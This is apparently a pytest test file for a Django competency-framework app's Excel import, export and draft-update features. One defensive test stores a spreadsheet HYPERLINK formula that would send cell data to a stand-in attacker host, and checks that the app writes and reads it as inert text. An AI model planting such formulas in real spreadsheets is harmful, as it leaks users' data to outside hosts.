"""Workbook (.xlsx) round trip of a framework, and updating a draft from a workbook."""

import datetime
import zipfile
from io import BytesIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import Workbook, load_workbook

from competencies.interchange.imported import ImportRefused
from competencies.interchange.workbook import (
    framework_workbook,
    framework_workbook_template,
    workbook_framework_read,
)
from competencies.interchange.workbook_layout import SHEETS
from competencies.models import Capability, ExternalAssociation, Framework
from competencies.services import editing, updating
from competencies.services.importing import framework_import
from competencies.services.rules import FrameworkNotEditable
from competencies.services.updating import (
    UpdateBlocked,
    framework_update_apply,
    framework_update_plan,
)
from competencies.services.versions import framework_copy
from eisen.errors import StaleEdit
from tests.factories import (
    CapabilityAssociationFactory,
    CapabilityFactory,
    FrameworkFactory,
    LevelDescriptorFactory,
)

pytestmark = pytest.mark.django_db

HEADERS = {
    "Framework": ["Field", "Value"],
    "Items": [
        "identifier",
        "type",
        "code",
        "parent code",
        "title",
        "description",
        "relevance",
        "EQF 7 descriptor",
        "EQF 8 descriptor",
        "themes",
        "references",
        "notes",
    ],
    "Links": [
        "origin code",
        "type",
        "destination code",
        "external identifier",
        "external URI",
        "external title",
        "note",
    ],
    "Themes": ["code", "name", "description"],
    "References": ["key", "citation", "year", "DOI", "URL"],
}


def _book(data: bytes):
    return load_workbook(BytesIO(data))


def _values(data: bytes, sheet: str, *, without_identifiers=False) -> list[tuple]:
    rows = list(_book(data)[sheet].iter_rows(values_only=True))
    if without_identifiers and sheet == "Items":
        rows = [row[1:] for row in rows]
    return rows


def _saved(book) -> bytes:
    output = BytesIO()
    book.save(output)
    return output.getvalue()


def _read(data: bytes):
    return workbook_framework_read(data, source_name="framework.xlsx")


def test_sheets_and_headers_are_the_documented_layout(eisen_framework):
    book = _book(framework_workbook(eisen_framework))
    assert book.sheetnames == ["Framework", "Items", "Links", "Themes", "References"]
    assert [sheet.name for sheet in SHEETS] == book.sheetnames
    for name, headers in HEADERS.items():
        sheet = book[name]
        assert [cell.value for cell in sheet[1]] == headers
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in sheet[1])
    validations = {
        name: [rule.formula1 for rule in book[name].data_validations.dataValidation]
        for name in ("Items", "Links")
    }
    assert validations["Items"] == ['"Domain,Capability"']
    assert validations["Links"][0].startswith('"isRelatedTo,isPartOf,')
    fields = [row[0] for row in book["Framework"].iter_rows(min_row=2, values_only=True)]
    assert fields == [
        "identifier",
        "title",
        "version",
        "language",
        "licence",
        "description",
        "source",
    ]


def test_items_are_in_tree_order_with_parents_by_code(eisen_framework):
    rows = _values(framework_workbook(eisen_framework), "Items")[1:]
    assert [(row[1], row[2], row[3]) for row in rows[:3]] == [
        ("Domain", "K", None),
        ("Capability", "K1", "K"),
        ("Capability", "K2", "K"),
    ]
    assert [row[2] for row in rows if row[1] == "Domain"] == ["K", "S", "A"]
    assert len(rows) == 3 + 15
    links = _values(framework_workbook(eisen_framework), "Links")[1:]
    assert [row[:3] for row in links] == [("S2", "isRelatedTo", "A3")]


def test_eisen_round_trips_through_a_workbook(eisen_framework):
    k1 = Capability.objects.get(framework=eisen_framework, code="K1")
    LevelDescriptorFactory(capability=k1, eqf_level=7, text="Explains the paradigms.")
    LevelDescriptorFactory(capability=k1, eqf_level=8, text="Extends the paradigms.")
    CapabilityFactory(domain=k1.domain, parent=k1, code="K1.1", position=0, notes="A note.")
    ExternalAssociation.objects.create(
        capability=Capability.objects.get(framework=eisen_framework, code="S1"),
        capability_is_origin=False,
        association_type="exactMatchOf",
        identifier="urn:example:17",
        uri="https://example.org/17",
        title="Held elsewhere",
    )
    first = framework_workbook(eisen_framework)
    imported = _read(first)
    assert imported.report == []
    copy = framework_import(imported=imported)
    second = framework_workbook(copy)
    for sheet in ("Items", "Links", "Themes", "References"):
        assert _values(second, sheet, without_identifiers=True) == _values(
            first, sheet, without_identifiers=True
        ), sheet
    assert [(row[2], row[3], row[7], row[11]) for row in _values(second, "Items")[1:4]] == [
        ("K", None, None, None),
        ("K1", "K", "Explains the paradigms.", None),
        ("K1.1", "K1", None, "A note."),
    ]
    assert (None, "exactMatchOf", "S1", "urn:example:17") in [
        row[:4] for row in _values(second, "Links")
    ]
    framework_values = dict(_values(second, "Framework")[1:])
    assert framework_values["title"] == eisen_framework.title
    assert framework_values["version"] == eisen_framework.version_label
    assert framework_values["description"] == eisen_framework.description


def test_template_has_the_layout_and_uploading_it_unchanged_says_what_is_missing():
    template = framework_workbook_template()
    book = _book(template)
    assert book.sheetnames == list(HEADERS)
    for name, headers in HEADERS.items():
        assert [cell.value for cell in book[name][1]] == headers
        assert book[name].max_row == (8 if name == "Framework" else 1)
    with pytest.raises(ImportRefused) as refused:
        _read(template)
    assert [str(problem) for problem in refused.value.problems] == [
        "sheet Items, row 2: the sheet has no items; add a row for each domain and each capability"
    ]


# Updating a draft from an edited workbook


@pytest.fixture
def draft(eisen_framework):
    return framework_copy(source=eisen_framework, slug="eisen-draft", title="EISEN draft")


def _rows(book, sheet: str) -> list[list]:
    return [list(row) for row in book[sheet].iter_rows(min_row=2, values_only=True)]


def _replace_rows(book, sheet: str, rows: list[list]) -> None:
    worksheet = book[sheet]
    worksheet.delete_rows(2, worksheet.max_row)
    for row in rows:
        worksheet.append(row)


def _index(rows: list[list], code: str) -> int:
    return next(index for index, row in enumerate(rows) if row[2] == code)


def _summary(entries) -> list[tuple]:
    return [
        (entry.kind, entry.code, [tuple(change) for change in entry.changes]) for entry in entries
    ]


def test_an_edited_workbook_updates_the_draft_with_exactly_the_previewed_changes(draft):
    book = _book(framework_workbook(draft))
    rows = _rows(book, "Items")
    before = {row[2]: row[0] for row in rows}
    k1 = rows[_index(rows, "K1")]
    k1[4] = "Interdisciplinary knowledge and methods"
    new_row = [None, "Capability", "K1.1", "K1", "Knowing the methods", "Which methods fit."]
    new_row += [None, None, None, "research-competence", None, None]
    rows.insert(_index(rows, "K1") + 1, new_row)
    rows.insert(_index(rows, "K2"), rows.pop(_index(rows, "K6")))
    del rows[_index(rows, "A4")]
    s5 = rows.pop(_index(rows, "S5"))
    s5[3] = "A"
    rows.insert(_index(rows, "A3") + 1, s5)
    _replace_rows(book, "Items", rows)
    edited = _saved(book)

    plan = framework_update_plan(draft, _read(edited))
    assert plan.blocking == []
    assert _summary(plan.added) == [("capability", "K1.1", [])]
    assert _summary(plan.changed) == [
        ("capability", "K1", [("title", "Interdisciplinary knowledge", k1[4])]),
        ("capability", "K6", [("position", "6", "2")]),
        ("capability", "S5", [("parent", "S", "A")]),
    ]
    assert _summary(plan.deleted) == [("capability", "A4", [])]

    revision = draft.revision
    applied = framework_update_apply(draft, _read(edited), expected_revision=revision)
    assert applied == plan
    draft.refresh_from_db()
    assert draft.revision == revision + 1
    after = _values(framework_workbook(draft), "Items")[1:]
    added = next(row for row in after if row[2] == "K1.1")
    assert added[0] not in before.values()
    new_row[0] = added[0]
    assert after == [tuple(row) for row in rows]
    moved = Capability.objects.get(framework=draft, code="S5")
    assert str(moved.uuid) == before["S5"]
    assert (moved.domain.code, moved.position) == ("A", 3)
    assert moved.lineage == Capability.objects.get(framework__status="published", code="S5").lineage
    assert not Capability.objects.filter(framework=draft, code="A4").exists()
    assert framework_update_plan(draft, _read(framework_workbook(draft))).is_empty


def _unordered_lists(row) -> tuple:
    """An Items row with its themes and references as sets."""
    return (*row[:9], *(frozenset((cell or "").split("; ")) - {""} for cell in row[9:11]), row[11])


def test_swaps_reorders_vocabulary_and_links_apply_as_the_workbook_says(draft):
    k3 = Capability.objects.get(framework=draft, code="K3")
    LevelDescriptorFactory(capability=k3, eqf_level=7, text="Knows the study designs.")
    LevelDescriptorFactory(capability=k3, eqf_level=8, text="Judges the study designs.")
    book = _book(framework_workbook(draft))
    rows = _rows(book, "Items")
    rows[_index(rows, "K1")][2], rows[_index(rows, "K2")][2] = "K2", "K1"
    for row in rows:
        if row[3] in ("K1", "K2"):
            row[3] = {"K1": "K2", "K2": "K1"}[row[3]]
    k3 = rows[_index(rows, "K3")]
    k3[7], k3[8] = "Designs a study with partners.", None
    k3[9], k3[10] = "transferable-skills", ""
    rows[_index(rows, "K4")][8] = "Leads the design of a study."
    attitudes = [row for row in rows if row[2].startswith("A")]
    rows = attitudes + [row for row in rows if not row[2].startswith("A")]
    child = rows.pop(_index(rows, "S4"))
    child[3] = "S1"
    rows.insert(_index(rows, "S1") + 1, child)
    _replace_rows(book, "Items", rows)
    themes = _rows(book, "Themes")
    themes.reverse()
    themes[0][1] = "Renamed theme"
    themes.append(["new-theme", "New theme", "Added from the workbook."])
    _replace_rows(book, "Themes", themes)
    references = _rows(book, "References")
    used = {key for row in rows for key in (row[10] or "").split("; ")}
    unused = next(row[0] for row in references if row[0] not in used)
    _replace_rows(book, "References", [row for row in references if row[0] != unused])
    links = _rows(book, "Links")
    links[0][6] = "A new note."
    links.append(["K2", "precedes", "S1", None, None, None, "Order of teaching."])
    links.append(
        [None, "exactMatchOf", "A1", "ext-17", "https://example.org/17", "Elsewhere", None]
    )
    _replace_rows(book, "Links", links)
    book["Framework"]["B3"] = "EISEN draft, revised"
    edited = _saved(book)

    plan = framework_update_plan(draft, _read(edited))
    changed = {(entry.kind, entry.code): entry.changes for entry in plan.changed}
    assert {field for field, _old, _new in changed["capability", "K3"]} == {
        "EQF 7 descriptor",
        "EQF 8 descriptor",
        "themes",
        "references",
    }
    assert changed["capability", "K4"] == (
        ("EQF 8 descriptor", "", "Leads the design of a study."),
    )
    assert changed["capability", "S4"] == (("parent", "S", "S1"),)
    assert changed["domain", "A"] == (("position", "3", "1"),)
    assert changed["framework", "eisen-draft"] == (
        ("title", "EISEN draft", "EISEN draft, revised"),
    )
    assert ("theme", "new-theme") in {(entry.kind, entry.code) for entry in plan.added}
    assert ("reference", unused) in {(entry.kind, entry.code) for entry in plan.deleted}
    assert {entry.code for entry in plan.added if entry.kind == "link"} == {
        "K2 precedes S1",
        "ext-17 exactMatchOf A1",
    }

    framework_update_apply(draft, _read(edited), expected_revision=draft.revision)
    draft.refresh_from_db()
    again = framework_workbook(draft)
    for sheet in ("Themes", "References"):
        assert _values(again, sheet)[1:] == [tuple(row) for row in _rows(_book(edited), sheet)]
    # Themes are listed in the themes' order, which the workbook reversed.
    assert [_unordered_lists(row) for row in _values(again, "Items")[1:]] == [
        _unordered_lists(row) for row in rows
    ]
    assert sorted(_values(again, "Links")[1:], key=str) == sorted(
        (tuple(row) for row in links), key=str
    )
    assert draft.title == "EISEN draft, revised"
    assert framework_update_plan(draft, _read(again)).is_empty


def _counts() -> tuple[int, int]:
    return Framework.objects.count(), Capability.objects.count()


def _k1_renamed(framework) -> bytes:
    book = _book(framework_workbook(framework))
    book["Items"]["E3"] = "Renamed"
    return _saved(book)


def test_a_stale_preview_is_refused_and_nothing_changes(draft):
    edited = _k1_renamed(draft)
    before, counts = framework_workbook(draft), _counts()
    with pytest.raises(StaleEdit) as stale:
        framework_update_apply(draft, _read(edited), expected_revision=draft.revision - 1)
    assert stale.value.current.pk == draft.pk
    assert _counts() == counts
    for sheet in HEADERS:
        assert _values(framework_workbook(draft), sheet) == _values(before, sheet)


def test_a_published_framework_is_not_updated(eisen_framework):
    edited = _k1_renamed(eisen_framework)
    plan = framework_update_plan(eisen_framework, _read(edited))
    assert [entry.code for entry in plan.changed] == ["K1"]
    assert "published" in plan.blocking[0]
    with pytest.raises(FrameworkNotEditable):
        framework_update_apply(
            eisen_framework, _read(edited), expected_revision=eisen_framework.revision
        )
    assert Capability.objects.get(framework=eisen_framework, code="K1").title != "Renamed"


def test_deleting_a_capability_that_courses_use_is_blocked(draft, monkeypatch):
    monkeypatch.setattr(
        editing,
        "_capability_usage_finders",
        [
            lambda capabilities: {
                item.pk: ["MSc course IMP701, outcome LO2"]
                for item in capabilities
                if item.code == "A4"
            }
        ],
    )
    book = _book(framework_workbook(draft))
    rows = _rows(book, "Items")
    del rows[_index(rows, "A4")]
    _replace_rows(book, "Items", rows)
    edited = _saved(book)
    plan = framework_update_plan(draft, _read(edited))
    assert len(plan.blocking) == 1
    assert plan.blocking[0].startswith("A4 ")
    assert "IMP701, outcome LO2" in plan.blocking[0]
    with pytest.raises(UpdateBlocked, match="IMP701"):
        framework_update_apply(draft, _read(edited), expected_revision=draft.revision)
    assert Capability.objects.filter(framework=draft, code="A4").exists()


def test_links_to_another_framework_survive_an_unchanged_update(draft, eisen_framework):
    elsewhere = Capability.objects.get(framework=eisen_framework, code="K1")
    CapabilityAssociationFactory(
        origin=Capability.objects.get(framework=draft, code="A1"), destination=elsewhere
    )
    workbook = framework_workbook(draft)
    assert ("A1", "isRelatedTo", None, str(elsewhere.uuid), None, f"K1 {elsewhere.title}") in [
        row[:6] for row in _values(workbook, "Links")
    ]
    assert framework_update_plan(draft, _read(workbook)).is_empty


# What the reader refuses, and what it reads


def _broken(change) -> bytes:
    book = Workbook()
    book.remove(book.active)
    for name, headers in HEADERS.items():
        book.create_sheet(name).append(headers)
    book["Framework"].append(["title", "Broken"])
    book["Items"].append([None, "Domain", "K", None, "Knowledge"])
    book["Items"].append([None, "Capability", "K1", "K", "Interdisciplinary knowledge"])
    book["References"].append(["gabbay-2014", "Gabbay J. (2014) Mindlines.", 2014])
    change(book)
    return _saved(book)


def _set(sheet: str, cell: str, value):
    def change(book):
        book[sheet][cell] = value

    return change


REFUSED = {
    "not a zip": (b"code,title\nK1,Knowledge\n", "framework.xlsx: the file is not an Excel"),
    "truncated": (
        _broken(lambda book: None)[:2000],
        "framework.xlsx: the file is not an Excel workbook (.xlsx) or is damaged",
    ),
    "not a workbook": (
        b"PK" + b"\0" * 200,
        "framework.xlsx: the file is not an Excel workbook (.xlsx) or is damaged",
    ),
    "no Items sheet": (
        _broken(lambda book: book.remove(book["Items"])),
        "framework.xlsx: the workbook has no sheet Items",
    ),
    "no code column": (
        _broken(lambda book: book["Items"].delete_cols(3)),
        "sheet Items, row 1: the column code is missing",
    ),
    "bad type": (
        _broken(_set("Items", "B3", "Competence")),
        "sheet Items, row 3, column type (B): Competence is not Domain or Capability",
    ),
    "domain with a parent": (
        _broken(_set("Items", "D2", "K1")),
        "sheet Items, row 2, column parent code (D): a domain has no parent",
    ),
    "unknown parent": (
        _broken(_set("Items", "D3", "Q9")),
        "sheet Items, row 3, column parent code (D): Q9 is not the code of any row",
    ),
    "bad year": (
        _broken(_set("References", "C2", "last year")),
        "sheet References, row 2, column year (C): last year is not a year",
    ),
    "superscript year": (
        _broken(_set("References", "C2", "²⁰²⁶")),
        "sheet References, row 2, column year (C): ²⁰²⁶ is not a year",
    ),
}


@pytest.mark.parametrize("case", REFUSED)
def test_a_file_that_cannot_be_read_is_refused_saying_where(case, eisen_framework):
    data, expected = REFUSED[case]
    counts = _counts()
    with pytest.raises(ImportRefused) as refused:
        framework_import(imported=_read(data))
    assert str(refused.value.problems[0]).startswith(expected)
    assert _counts() == counts


def test_the_broken_workbooks_are_readable_before_they_are_broken():
    imported = _read(_broken(lambda book: None))
    assert [(node.code, node.parent) for node in imported.nodes] == [("K", None), ("K1", "K")]
    assert imported.title == "Broken"


def test_numbers_and_dates_in_cells_are_read_as_the_text_shown():
    def numbers(book):
        items = book["Items"]
        items.delete_rows(2, 2)
        items.append([None, None, 1, None, "First domain"])
        items.append([None, None, 1.1, 1, "Typed as a number", None, None, None, None, None])
        items["L3"] = datetime.date(2024, 5, 1)
        items.append([None, "capability", "1.2", 1.1, 2.5])

    imported = _read(_broken(numbers))
    assert [(node.code, node.parent, node.title) for node in imported.nodes] == [
        ("1", None, "First domain"),
        ("1.1", "1", "Typed as a number"),
        ("1.2", "1.1", "2.5"),
    ]
    assert imported.nodes[1].notes == "2024-05-01"
    framework = framework_import(imported=imported)
    assert list(framework.capabilities.order_by("code").values_list("code", "parent__code")) == [
        ("1.1", None),
        ("1.2", "1.1"),
    ]


def test_text_that_looks_like_a_formula_is_written_and_read_as_text(draft):
    formula = '=HYPERLINK("https://attacker.example/?"&A1,"Click")'
    Capability.objects.filter(framework=draft, code="K1").update(title=formula, notes="=1+1")
    data = framework_workbook(draft)
    items = _book(data)["Items"]
    row = next(row for row in items.iter_rows(min_row=2) if row[2].value == "K1")
    assert (row[4].value, row[4].data_type) == (formula, "s")
    assert (row[11].value, row[11].data_type) == ("=1+1", "s")
    with zipfile.ZipFile(BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert not any(b"<f>" in archive.read(name) for name in sheets)
    node = next(node for node in _read(data).nodes if node.code == "K1")
    assert (node.title, node.notes) == (formula, "=1+1")
    assert framework_update_plan(draft, _read(data)).is_empty


# Queries


def _queries(action) -> int:
    with CaptureQueriesContext(connection) as queries:
        action()
    return len(queries)


def _with_new_capabilities(framework, count: int) -> bytes:
    book = _book(framework_workbook(framework))
    items = book["Items"]
    for row in items.iter_rows(min_row=2):
        if row[1].value == "Capability" and row[2].value.startswith("K"):
            row[4].value = f"{row[4].value} (revised {count})"
    for number in range(count):
        items.append([None, "Capability", f"S9.{number}", "S5", f"New {number}", None, None])
        items.cell(items.max_row, 10, "creating-impact")
    return _saved(book)


def test_queries_do_not_grow_with_the_number_of_rows(draft):
    other = framework_copy(source=draft, slug="other-draft", title="Other draft")
    small, large = _with_new_capabilities(draft, 2), _with_new_capabilities(other, 40)
    planned = [
        _queries(lambda: framework_update_plan(draft, _read(small))),
        _queries(lambda: framework_update_plan(other, _read(large))),
    ]
    assert planned[0] == planned[1]
    applied = [
        _queries(
            lambda: framework_update_apply(draft, _read(small), expected_revision=draft.revision)
        ),
        _queries(
            lambda: framework_update_apply(other, _read(large), expected_revision=other.revision)
        ),
    ]
    assert applied[0] == applied[1]
    assert other.capabilities.filter(code__startswith="S9.").count() == 40


def test_a_capability_moves_to_another_domain_with_its_sub_capabilities(draft):
    book = _book(framework_workbook(draft))
    rows = _rows(book, "Items")
    rows.insert(_index(rows, "S1") + 1, [None, "Capability", "S1.1", "S1", "Part of S1"])
    _replace_rows(book, "Items", rows)
    framework_update_apply(draft, _read(_saved(book)), expected_revision=draft.revision)
    draft.refresh_from_db()

    book = _book(framework_workbook(draft))
    rows = _rows(book, "Items")
    branch = [rows.pop(_index(rows, "S1")), rows.pop(_index(rows, "S1.1"))]
    branch[0][3] = "A"
    rows[_index(rows, "A1") : _index(rows, "A1")] = branch
    _replace_rows(book, "Items", rows)
    edited = _saved(book)
    plan = framework_update_plan(draft, _read(edited))
    assert _summary(plan.changed) == [("capability", "S1", [("parent", "S", "A")])]
    framework_update_apply(draft, _read(edited), expected_revision=draft.revision)
    moved = Capability.objects.filter(framework=draft, code__startswith="S1")
    assert sorted(moved.values_list("code", "domain__code", "parent__code", "position")) == [
        ("S1", "A", None, 0),
        ("S1.1", "A", "S1", 0),
    ]
    assert list(
        draft.capabilities.filter(domain__code="A", parent=None)
        .values_list("code", flat=True)
        .order_by("position")
    ) == ["S1", "A1", "A2", "A3", "A4"]


def test_what_is_read_but_not_taken_is_reported():
    def extras(book):
        book["Items"]["M1"] = "comments"
        book["Items"]["G2"] = "Domains hold no relevance."
        book["Items"]["A3"] = "not-a-uuid"
        book.remove(book["Links"])

    imported = _read(_broken(extras))
    assert [str(problem) for problem in imported.report] == [
        "sheet Items, row 1, column M: the column comments is not read",
        "sheet Items, row 2, column relevance (G): a domain has no relevance; not taken",
        (
            "sheet Items, row 3, column identifier (A): "
            "not-a-uuid is not a UUID; it is given a new one"
        ),
        "the workbook has no sheet Links; read as empty",
    ]
    assert [node.key for node in imported.nodes] == ["K", "not-a-uuid"]


def test_a_failure_while_applying_leaves_the_draft_as_it_was(draft, monkeypatch):
    book = _book(framework_workbook(draft))
    book["Items"]["E3"] = "Renamed"
    book["Items"].append([None, "Domain", "R", None, "Research"])
    book["Items"].append([None, "Capability", "R1", "R", "New capability"])
    edited = _saved(book)
    before, revision = framework_workbook(draft), draft.revision

    def failing(capabilities, *, user=None):
        raise RuntimeError("the database went away")

    monkeypatch.setattr(updating, "bulk_create_capability_tree", failing)
    with pytest.raises(RuntimeError):
        framework_update_apply(draft, _read(edited), expected_revision=revision)
    draft.refresh_from_db()
    assert draft.revision == revision
    for sheet in HEADERS:
        assert _values(framework_workbook(draft), sheet) == _values(before, sheet)


def test_a_version_number_that_another_version_has_blocks_the_update(draft):
    FrameworkFactory(slug=draft.slug, version_label="2.0")
    book = _book(framework_workbook(draft))
    book["Framework"]["B4"] = "2.0"
    plan = framework_update_plan(draft, _read(_saved(book)))
    assert plan.changed[0].changes == (("version", "1.0", "2.0"),)
    assert plan.blocking == ["Another version of this framework is already numbered 2.0."]
